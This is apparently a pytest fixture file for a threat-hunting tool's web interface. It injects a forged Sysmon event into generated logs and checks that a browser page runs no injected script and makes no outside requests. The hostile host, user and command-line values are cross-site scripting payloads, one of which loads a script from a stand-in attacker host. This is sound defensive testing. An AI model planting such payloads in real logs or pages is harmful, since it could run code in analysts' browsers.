"""A generated day that was hunted, behind a server, and a browser that watches what pages do."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from docs.browser import find_browser
from playwright.sync_api import Browser

from escudo.serve.pages.rendering import STATIC
from tests.serve.conftest import make_users
from tests.serve.pages.watched import WatchedPage, watch_page
from tests.serve.running import RunningServer, run_server

EVENTS, SEED = 3_000, 7

HOSTILE_HOST = "<script>window.owned=1</script>.example"
HOSTILE_USER = '"><img src=x onerror=window.owned=2>'
HOSTILE_COMMAND = (
    "cmd.exe /c </pre><svg onload=window.owned=3><script src=//evil.example/x.js></script>"
)

_HOSTILE = """\
<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
<Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/>\
<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>\
<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2024-05-14T13:00:00.000000000Z'/>\
<EventRecordID>999999</EventRecordID><Correlation/><Execution ProcessID='3956' ThreadID='4132'/>\
<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{host}</Computer>\
<Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data>\
<Data Name='UtcTime'>2024-05-14 13:00:00.000</Data>\
<Data Name='ProcessGuid'>{{49F08E85-0000-6642-2300-000000007F01}}</Data>\
<Data Name='ProcessId'>4242</Data><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>\
<Data Name='OriginalFileName'>Cmd.Exe</Data><Data Name='CommandLine'>{command}</Data>\
<Data Name='CurrentDirectory'>C:\\</Data><Data Name='User'>{user}</Data>\
<Data Name='ParentProcessGuid'>{{49F08E85-A9F4-6642-0800-000000007F01}}</Data>\
<Data Name='ParentProcessId'>132</Data>\
<Data Name='ParentImage'>C:\\Windows\\System32\\wbem\\WmiPrvSE.exe</Data>\
<Data Name='ParentCommandLine'>C:\\Windows\\system32\\wbem\\wmiprvse.exe</Data>\
</EventData></Event>
"""
"""A process start (Sysmon, event 1) that WMI asked for, with names of an attacker's choice."""


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Says why nothing here runs: without Chromium, or without what ``make web`` builds."""
    reason = None
    if find_browser() is None:
        reason = "there is no Chromium"
    elif not (STATIC / "manifest.json").is_file():
        reason = "make web has not run"
    for item in items:
        if Path(__file__).parent in item.path.parents:
            item.add_marker(pytest.mark.slow)
            if reason is not None:
                item.add_marker(pytest.mark.skip(reason=reason))


def make_lake(folder: Path) -> Path:
    """A lake with a generated day that was hunted, hostile names in it."""
    log, lake = folder / "day.xml", folder / "lake"
    _escudo("generate", "--events", str(EVENTS), "--seed", str(SEED), "--quiet", "--out", str(log))
    with log.open("a", encoding="utf-8") as file:
        file.write(
            _HOSTILE.format(
                host=escape(HOSTILE_HOST),
                user=escape(HOSTILE_USER),
                command=escape(HOSTILE_COMMAND),
            )
        )
    _escudo("hunt", str(log), "--lake", str(lake), "--quiet")
    return lake


def _escudo(*arguments: str) -> None:
    subprocess.run(
        [sys.executable, "-m", "escudo.cli", *arguments], check=True, stdout=subprocess.DEVNULL
    )


@pytest.fixture(scope="session")
def hunted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """A server over that lake, with a user for each role; it runs no schedules."""
    lake = make_lake(tmp_path_factory.mktemp("hunted"))
    with run_server(lake, ["--no-schedule"]) as running:
        make_users(lake)
        yield running


@pytest.fixture
def page(chromium: Browser, hunted: RunningServer) -> Iterator[WatchedPage]:
    """An engineer's page, logged in. Afterwards it must have run nothing and asked nobody else."""
    with watch_page(chromium, hunted.url, "engineer") as watched:
        yield watched
